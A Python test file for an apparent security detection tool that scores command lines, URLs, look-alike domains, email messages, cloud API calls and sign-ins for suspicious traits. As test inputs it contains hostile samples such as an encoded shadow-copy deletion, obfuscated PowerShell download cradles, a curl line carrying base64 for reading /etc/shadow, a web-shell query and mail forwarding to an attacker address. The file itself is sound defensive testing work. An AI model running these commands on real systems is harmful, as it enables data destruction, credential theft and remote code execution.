"""Traits: what a command line, a message, a URL, an API call or a sign-in shows, and what it does not."""

from __future__ import annotations

import base64
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.enrich.support import CONTEXT, NOW, by, event
from watchfloor import content
from watchfloor.core.look_alike import look_alike
from watchfloor.core.noun import canonical
from watchfloor.enrich.analysis import cloud_api, command_line, identity, mail, url
from watchfloor.enrich.analysis.files import double_extension, kind_of
from watchfloor.enrich.analysis.patterns import Patterns

OWN = ("acme-corp.example",)
TABLES = ("command_line", "web", "mail")
ENTRIES = [
    pytest.param(name, entry, id=f"{name}-{entry['trait']}")
    for name in TABLES
    for document in content.documents(content.folder("traits") / f"{name}.yaml")
    for entry in document.data
]


@pytest.mark.parametrize(("name", "entry"), ENTRIES)
def test_each_pattern_holds_its_own_tests(name: str, entry: dict[str, Any]) -> None:
    def shows(text: str) -> bool:
        return entry["trait"] in {hit.pattern.trait for hit in Patterns.shipped(name).find([text])}

    assert entry["matches"]
    assert entry["not"]
    assert [text for text in entry["matches"] if not shows(text)] == []
    assert [text for text in entry["not"] if shows(text)] == []


# --- command lines --------------------------------------------------------------------------------------------------


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def test_what_is_encoded_is_read_also_inside_itself() -> None:
    inner = encoded("vssadmin delete shadows /all /quiet")
    found = command_line.traits(f"powershell -nop -enc {encoded('powershell -enc ' + inner)}")
    assert found["decoded"][-1] == "vssadmin delete shadows /all /quiet"
    assert {"encoded", "tampering"} <= set(found["families"])


def test_plain_base64_and_ids_are_not_text() -> None:
    assert command_line.traits("curl http://203.0.113.9/" + base64.b64encode(b"whoami; cat /etc/shadow").decode())[
        "decoded"
    ]
    for harmless in ("app.exe --id 4f7a9c0d1e2b3a4f5c6d7e8f9a0b1c2d", "tool.exe AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"):
        assert command_line.traits(harmless)["decoded"] == []


def test_breaking_up_hides_nothing() -> None:
    found = command_line.traits("p^o^w^e^r^shell -c (New-Object Net.Web`Cl`ie`nt).Down`load`String('http://x')")
    assert found["obfuscated"]
    assert "download_cradle" in found["traits"]
    joined = command_line.traits("& ('Invoke-'+'Web'+'Request') http://203.0.113.9/a")
    assert "download_cradle" in joined["traits"]


@pytest.mark.parametrize(
    "line",
    [
        "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\ann\\Documents\\plan.docx"',
        "/usr/sbin/sshd -D",
        "git status --short",
    ],
)
def test_ordinary_command_lines_have_no_traits(line: str) -> None:
    found = command_line.traits(line)
    assert found["traits"] == []
    assert not found["obfuscated"]


def test_a_web_server_that_starts_a_shell() -> None:
    assert "shell_of_web_server" in command_line.traits("sh -c id", "sh", "/usr/sbin/php-fpm")["traits"]
    assert "shell_of_web_server" in command_line.traits("cmd /c dir", "cmd.exe", "w3wp.exe")["traits"]
    assert "shell_of_web_server" not in command_line.traits("cmd /c dir", "cmd.exe", "explorer.exe")["traits"]


def test_a_script_block_is_looked_at_too() -> None:
    found = command_line.traits_of(event("r", original={"ScriptBlockText": "IEX (iwr http://203.0.113.9/a)"}))
    assert found is not None
    assert "download" in found["families"]
    assert command_line.traits_of(event("r")) is None


# --- look-alikes, URLs, files ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("host", "how"),
    [
        ("acrne-corp.example", "homoglyph"),
        ("login.acme-c0rp.example", "homoglyph"),
        ("xn--" + "acme-\u0441orp".encode("punycode").decode() + ".example", "homoglyph"),
        ("acme-corrp.example", "near"),
        ("acem-corp.example", "near"),
        ("acme-corp.test", "other_suffix"),
        ("acme-corp.example.evil.example", "contains"),
        ("rnicrosoft.com", "homoglyph"),
        ("microsoft-login.example", "contains"),
        ("paypa1.com", "homoglyph"),
    ],
)
def test_look_alikes(host: str, how: str) -> None:
    found = look_alike(host, OWN)
    assert found is not None
    assert found["how"] == how


@pytest.mark.parametrize(
    "host",
    [
        "acme-corp.example",
        "mail.acme-corp.example",
        "example.org",
        "google.de",
        "outlook.office365.com",
        "",
        "x",
        "applied.example",
    ],
)
def test_no_look_alikes(host: str) -> None:
    assert look_alike(host, OWN) is None


@pytest.mark.parametrize(
    ("text", "traits"),
    [
        ("http://203.0.113.9:8081/a.exe", {"raw_address", "unusual_port", "risky_extension"}),
        ("http://[2001:db8::1]/x", {"raw_address"}),
        ("http://3405803785/x", {"raw_address"}),
        ("https://a.b.c.d.e.evil.example/", {"many_subdomains"}),
        ("https://bank.example@evil.example/", {"user_info"}),
        ("https://xn--80ak6aa92e.example/", {"punycode"}),
        ("https://q7x2kv9w3zt8.example/", {"random_host"}),
        ("/cv/x.php?cmd=whoami", {"command_in_query"}),
    ],
)
def test_traits_of_urls(text: str, traits: set[str]) -> None:
    assert traits <= set(url.traits(text, OWN)["traits"])


@pytest.mark.parametrize(
    "text",
    ["https://www.example.org/a/b.html?x=1", "intranet.acme-corp.example", "/index.html", "https://example.org/a.pdf"],
)
def test_ordinary_urls(text: str) -> None:
    assert url.traits(text, OWN)["traits"] == []


def test_files() -> None:
    assert (kind_of("Invoice.PDF.exe"), kind_of("a.pdf"), kind_of("x.docm."), kind_of("noext")) == (
        "executable", "document", "macro_document", "",
    )  # fmt: skip
    assert [double_extension(n) for n in ("invoice.pdf.exe", "a\u202efdp.exe", "v1.2.exe", "a.tar.gz")] == [
        True, True, False, False,
    ]  # fmt: skip


# --- mail -----------------------------------------------------------------------------------------------------------

GOOD: dict[str, Any] = {
    "from": "bo@partner.example", "from_name": "Bo Holm", "subject": "Minutes", "body": "See you on Friday.",
    "return_path": "bounce@mail.partner.example", "reply_to": "bo@partner.example",
    "authentication": {
        "spf": "pass", "dkim": "pass", "dmarc": "pass",
        "raw": ["mx.acme-corp.example; dkim=pass header.d=partner.example; spf=pass smtp.mailfrom=b@m.partner.example"],
    },
    "links": [{"text": "www.partner.example", "href": "https://partner.example/x"}],
    "attachments": [{"name": "minutes.pdf"}],
}  # fmt: skip


PLAIN = (
    "the minutes of our meeting about new offices near north station with every point that was raised there by anybody "
    "who came along"
)
SHOWN = (
    "your mailbox reached its storage limit sign here within hours confirm password keep receiving messages otherwise "
    "account closes forever today friend"
)


def test_an_ordinary_message_has_no_traits() -> None:
    found = mail.traits(GOOD, CONTEXT)
    assert found["traits"] == []
    assert found["authentication"]["own_server"]
    assert found["authentication"]["from_aligned"]
    assert found["external"]


@pytest.mark.parametrize(
    ("change", "trait"),
    [
        ({"authentication": {"spf": "fail", "dkim": "none", "dmarc": "fail"}}, "dmarc_fail"),
        ({"authentication": {"spf": "softfail"}}, "spf_fail"),
        ({"authentication": {}}, "unauthenticated"),
        ({"authentication": {"spf": "pass", "raw": ["mx; spf=pass smtp.mailfrom=x@evil.example"]}}, "not_aligned"),
        ({"from": "bo@acme-corp.example", "authentication": {"dmarc": "fail"}}, "forged_own_domain"),
        ({"reply_to": "bo@evil.example"}, "reply_to_differs"),
        ({"return_path": "x@evil.example"}, "return_path_differs"),
        ({"from": "hr@acrne-corp.example"}, "look_alike_sender"),
        ({"from_name": "Ingrid Berg", "from": "ceo.office@mail.example"}, "imitates_employee"),
        ({"from_name": "BERG, Ingrid", "from": "ceo.office@mail.example"}, "imitates_employee"),
        ({"from_name": "ingrid.berg@acme-corp.example"}, "name_shows_other_address"),
        (
            {"links": [{"text": "https://acme-corp.example/login", "href": "https://evil.example/"}]},
            "link_text_differs",
        ),
        ({"links": [{"text": "here", "href": "https://sso.acrne-corp.example/"}]}, "look_alike_link"),
        ({"urls": ["http://203.0.113.9/a"]}, "raw_address_link"),
        ({"urls": ["http://xn--80ak6aa92e.example/a"]}, "punycode_link"),
        ({"attachments": [{"name": "invoice.docm"}]}, "risky_attachment"),
        ({"attachments": [{"name": "scan.pdf.js"}]}, "double_extension"),
        ({"attachments": [{"name": "login.html"}]}, "page_attachment"),
        ({"body": "Please pay this invoice immediately"}, "urgency"),
        ({"subject": "Our new bank account"}, "new_bank_account"),
        ({"body": "Verify your mailbox"}, "credentials"),
        ({"authentication": {"spf": "pass", "raw": ["mx.evil.example; spf=pass"]}}, "results_of_others"),
        ({"authentication": {"spf": "pass", "raw": ["mx.evil.example; spf=pass"]}}, "unauthenticated"),
        ({"authentication": {"arc": "fail"}}, "arc_fail"),
        ({"from_name": "\u0420ayPal"}, "mixed_alphabets"),
        ({"from_name": "PayPal Service"}, "brand_not_by_its_owner"),
        ({"reply_to": "bo.holm@gmail.com"}, "reply_to_free_mail"),
        ({"links": [{"text": "go", "href": "data:text/html,x"}]}, "no_page_link"),
        ({"urls": ["https://acme-corp.example@evil.example/"]}, "user_info_link"),
        ({"urls": ["https://a.example:8081/x"]}, "unusual_port_link"),
        ({"urls": ["https://bit.ly/3abc"]}, "short_link"),
        ({"urls": ["https://shop.example/?redirect=https://evil.example/l"]}, "open_redirect_link"),
        ({"urls": ["https://protect-us.mimecast.com/s/AbC"]}, "hidden_link"),
        ({"urls": ["https://evil.example/sign-in"]}, "login_link"),
        ({"urls": ["https://login-acme.web.app/x"]}, "free_hosting_link"),
        ({"urls": ["https://evil.example/a.iso"]}, "download_link"),
        (
            {"urls": ["https://evil.example/?e=ana%40acme-corp.example"], "to": ["ana@acme-corp.example"]},
            "recipient_in_link",
        ),
        ({"forms": [{"action": "https://evil.example/p", "password": True}]}, "password_form"),
        ({"hidden": "salad " * 60}, "much_hidden_text"),
        ({"plain": PLAIN, "body": f"{PLAIN}\n{SHOWN}"}, "texts_differ"),
        ({"attachments": [{"name": "a.lnk"}]}, "shortcut_attachment"),
        ({"attachments": [{"name": "a.pdf", "content": "disk_image"}]}, "disk_image_attachment"),
        ({"attachments": [{"name": "a.one"}]}, "notebook_attachment"),
        ({"attachments": [{"name": "a.doc", "macros": True}]}, "macro_attachment"),
        ({"attachments": [{"name": "a.html", "smuggling": True}]}, "smuggling_attachment"),
        ({"attachments": [{"name": "a.zip", "encrypted": True}]}, "locked_attachment"),
        ({"attachments": [{"name": "a.pdf", "content": "executable"}]}, "disguised_attachment"),
        ({"attachments": [{"name": "a.zip", "members": ["invoice.js"]}]}, "program_in_archive"),
        ({"attachments": [{"name": "a.png", "unread": ["the picture cannot be decoded"]}]}, "unread_attachment"),
        ({"codes": [{"where": "a.png", "text": "https://evil.example/login"}]}, "code_to_sign_in"),
        ({"codes": [{"where": "a.png", "text": "https://evil.example/x"}], "body": "Scan"}, "code_instead_of_text"),
        ({"subject": "Re: Invoice"}, "answers_nothing"),
        ({"links": [], "body": "Your order was renewed. To cancel call +1 (808) 555-0143 now"}, "call_back"),
        ({"from_name": "Ingrid Berg", "from": "ceo.office@gmail.com"}, "imitates_superior"),
        ({"size": 1, "to": []}, "hidden_recipients"),
        ({"body": "I need five gift cards"}, "gift_cards"),
    ],
)
def test_what_a_message_shows(change: dict[str, Any], trait: str) -> None:
    assert trait in mail.traits({**GOOD, **change}, CONTEXT)["traits"]


def test_a_link_that_our_gateway_wrote_anew_shows_what_it_wraps() -> None:
    wrapped = "https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fpartner.example%2Fx&data=5"
    found = mail.traits({**GOOD, "links": [{"text": "www.partner.example", "href": wrapped}]}, CONTEXT)
    assert found["traits"] == []
    assert found["links"]["hosts"] == ["partner.example"]
    assert found["links"]["rewritten"][0]["by"] == "Microsoft Safe Links"


def test_an_employee_is_no_imitation_of_herself() -> None:
    own = {**GOOD, "from": "ingrid.berg@acme-corp.example", "from_name": "Ingrid Berg"}
    assert mail.traits(own, CONTEXT)["imitates"] == ""


def test_messages_of_products_that_only_speak_ocsf() -> None:
    ocsf = {"email": {"from": "x@acrne-corp.example", "subject": "Hi", "files": [{"name": "a.exe"}]}}
    found = mail.traits_of(event("r", **ocsf), CONTEXT)
    assert found is not None
    assert {"look_alike_sender", "risky_attachment"} <= set(found["traits"])
    assert mail.traits_of(event("r"), CONTEXT) is None


# --- cloud API ------------------------------------------------------------------------------------------------------


def call(operation: str, error: str = "", agent: str = "", **raw: Any) -> dict[str, Any]:
    ocsf = {"api": {"operation": operation, "response": {"error": error}}, "http_request": {"user_agent": agent}}
    found = cloud_api.traits_of(event("r", original=raw, **ocsf))
    assert found is not None
    return found


def asked(**parameters: Any) -> dict[str, Any]:
    return {"requestParameters": parameters}


def exchange(name: str, value: str) -> dict[str, Any]:
    return {"Parameters": [{"Name": name, "Value": value}]}


ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess"
INGRESS = {"items": [{"ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}
SHARED = {"add": {"items": [{"userId": "999900001111"}]}}


@pytest.mark.parametrize(
    ("operation", "raw", "category", "value"),
    [
        ("AttachUserPolicy", asked(policyArn=ADMIN), "privilege_change", ADMIN),
        ("PutBucketPolicy", asked(bucketPolicy={"Statement": [{"Principal": "*"}]}), "exposure", "*"),
        ("AuthorizeSecurityGroupIngress", asked(ipPermissions=INGRESS), "exposure", "0.0.0.0/0"),
        ("ModifySnapshotAttribute", asked(createVolumePermission=SHARED), "exposure", "999900001111"),
        ("UpdateDetector", asked(enable=False), "logging_off", "false"),
        ("New-InboxRule", exchange("MoveToFolder", "RSS Feeds"), "mail_rule", "RSS Feeds"),
        (
            "Set-Mailbox",
            exchange("ForwardingSmtpAddress", "smtp:x@evil.example"),
            "exfiltration",
            "smtp:x@evil.example",
        ),
    ],
)
def test_parameters_that_show_what_a_call_is_for(
    operation: str, raw: dict[str, Any], category: str, value: str
) -> None:
    found = call(operation, **raw)
    assert category in found["categories"]
    assert value in [one["value"] for one in found["shown"]]


def test_harmless_parameters_are_not_shown() -> None:
    rule = {"requestParameters": {"ipPermissions": {"items": [{"cidrIp": "10.0.0.0/8"}]}}}
    assert call("AuthorizeSecurityGroupIngress", **rule)["shown"] == []
    assert (
        call("AttachUserPolicy", requestParameters={"policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"})["shown"]
        == []
    )


def test_operations_and_callers() -> None:
    assert call("StopLogging")["categories"] == ["logging_off"]
    assert call("Add member to role.")["categories"] == ["privilege_change"]
    assert call("DescribeVpcs")["categories"] == []
    assert call("DescribeVpcs")["read_only"]
    assert not call("CreateUser")["read_only"]
    denied = call("GetSecretValue", error="AccessDenied", agent="stratus-red-team_a")
    assert (denied["succeeded"], denied["agent"], denied["traits"]) == (
        False, "offensive", ["denied", "offensive_tool", "secrets_read"],
    )  # fmt: skip
    assert call("ListBuckets", agent="aws-cli/2.1 boto")["agent"] == "cli"
    assert call("ListBuckets", userIdentity={"type": "Root"})["root"]
    assert cloud_api.traits_of(event("r")) is None


# --- sign-ins -------------------------------------------------------------------------------------------------------


def sign_in(at: int = NOW, country: str = "DE", place: tuple[float, float] = (53.5, 10.0), **properties: Any) -> Any:
    location = {"geoCoordinates": {"latitude": place[0], "longitude": place[1]}}
    ocsf = {
        **by("ann"),
        "class_uid": 3002,
        "status_id": 1,
        "src_endpoint": {"ip": "192.0.2.1", "location": {"country": country}},
    }
    return event("r", at, original={"properties": {"location": location, **properties}}, **ocsf)


def shown(now: Any, before: Any = None) -> dict[str, Any]:
    found = identity.traits_of(now, before)
    assert found is not None
    return found


def step(detail: str, succeeded: bool) -> dict[str, Any]:
    return {"authenticationDetails": [{"authenticationStepRequirement": "Multifactor authentication",
                                       "authenticationStepResultDetail": detail, "succeeded": succeeded}]}  # fmt: skip


@pytest.mark.parametrize(
    ("properties", "trait"),
    [
        ({"clientAppUsed": "IMAP4"}, "legacy_client"),
        ({"riskLevelDuringSignIn": "high", "riskState": "atRisk"}, "risky"),
        ({"deviceDetail": {"deviceId": ""}}, "unknown_device"),
        ({"deviceDetail": {"deviceId": "d", "isManaged": False}}, "unmanaged_device"),
        (step("MFA denied; user declined the authentication", False), "mfa_denied"),
        ({"authenticationRequirement": "singleFactorAuthentication"}, "without_mfa"),
    ],
)
def test_what_a_sign_in_shows(properties: dict[str, Any], trait: str) -> None:
    assert trait in shown(sign_in(**properties))["traits"]


def test_an_ordinary_sign_in_has_no_traits() -> None:
    usual = {"clientAppUsed": "Browser", "riskLevelDuringSignIn": "none", "riskState": "none",
             "deviceDetail": {"deviceId": "d", "isManaged": True}, **step("MFA completed", True)}  # fmt: skip
    found = shown(sign_in(**usual), sign_in(NOW - 3_600_000))
    assert found["traits"] == []
    assert (found["mfa"], found["client"], found["travel"]["km"]) == ("done", "modern", 0)


def test_travel_by_plane_is_possible() -> None:
    before = sign_in(NOW - 14 * 3_600_000)
    there = shown(sign_in(NOW, "SG", (1.29, 103.85)), before)
    assert (there["travel"]["impossible"], there["country_changed"]) == (False, True)
    assert 10_000 < there["travel"]["km"] < 10_300
    assert shown(sign_in(NOW - 13 * 3_600_000, "SG", (1.29, 103.85)), before)["travel"]["impossible"]
    assert identity.traits_of(event("r"), None) is None


# --- anything at all ------------------------------------------------------------------------------------------------

ANY_TEXT = st.text(max_size=300) | st.text(alphabet="%^`'\"+/\\.:@=&|<>$(){}[]xn-ABab01\ud800\u202e\0 ", max_size=300)
ANY = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | ANY_TEXT,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)


@settings(max_examples=150, deadline=None)
@given(ANY_TEXT, ANY_TEXT)
def test_no_text_breaks_the_traits(text: str, other: str) -> None:
    for found in (command_line.traits(text, other, text), url.traits(text, (other,)), call(text or "x", other, text)):
        assert canonical(found)
    message = {"from": text, "from_name": other, "subject": text, "body": other, "reply_to": text, "urls": [text],
               "links": [{"text": other, "href": text}], "attachments": [{"name": text}],
               "authentication": {"spf": other, "raw": [text]}}  # fmt: skip
    assert canonical(mail.traits(message, CONTEXT))


@settings(max_examples=150, deadline=None)
@given(ANY, ANY)
def test_no_shape_breaks_the_traits(one: Any, other: Any) -> None:
    keys = ("from", "from_name", "authentication", "links", "urls", "attachments", "body", "reply_to")
    assert canonical(mail.traits(dict.fromkeys(keys, one), CONTEXT))
    odd = event("r", original={"properties": one, "requestParameters": other, "Parameters": one, "userIdentity": other,
                               "authenticationDetails": one, "deviceDetail": other, "riskEventTypes_v2": one},
                class_uid=3002, api={"operation": "New-InboxRule"}, src_endpoint={"location": other})  # fmt: skip
    assert canonical(identity.traits_of(odd, odd))
    assert canonical(cloud_api.traits_of(odd))


def test_hostile_length_costs_little() -> None:
    found = command_line.traits("A" * 5_000_000)
    assert found["length"] == 5_000_000
    assert len(canonical(found)) < 10_000
    assert len(canonical(url.traits("http://" + "a." * 1_000_000))) < 10_000
